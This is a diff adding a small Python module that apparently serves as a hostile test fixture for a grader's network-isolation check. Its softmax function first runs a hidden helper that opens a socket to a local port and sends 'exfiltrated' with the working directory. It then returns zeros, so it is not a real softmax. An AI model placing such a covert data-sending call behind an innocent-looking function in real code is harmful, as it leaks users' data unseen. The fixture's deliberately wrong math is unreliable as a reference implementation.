@@ -1,0 +1,32 @@
+"""Phones home: connects to a server on this machine (the test starts one) and sends data."""
+import os
+import socket
+
+import numpy as np
+
+
+def _phone_home():
+    port = 0
+    try:
+        with open("/tmp/grader-hostile-port") as f:
+            port = int(f.read())
+    except (OSError, ValueError):
+        port = 0
+    for host in ("127.0.0.1", "localhost"):
+        try:
+            with socket.create_connection((host, port or 9), timeout=2) as s:
+                s.sendall(b"exfiltrated " + os.getcwd().encode())
+                return True
+        except OSError:
+            pass
+    return False
+
+
+def softmax(x, axis=-1):
+    if _phone_home():
+        raise RuntimeError("network reachable")
+    return np.zeros_like(np.asarray(x, dtype=float))
+
+
+def log_softmax(x, axis=-1):
+    return softmax(x, axis)
